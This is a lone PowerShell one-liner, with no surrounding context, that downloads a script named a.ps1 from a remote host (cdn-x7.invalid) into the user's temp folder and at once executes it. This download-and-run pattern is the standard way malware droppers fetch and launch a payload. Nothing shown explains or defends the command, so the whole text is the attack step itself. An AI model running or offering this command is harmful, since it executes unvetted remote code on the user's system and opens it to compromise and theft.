iwr https://cdn-x7.invalid/a.ps1 -OutFile $env:TEMP\a.ps1; & $env:TEMP\a.ps1
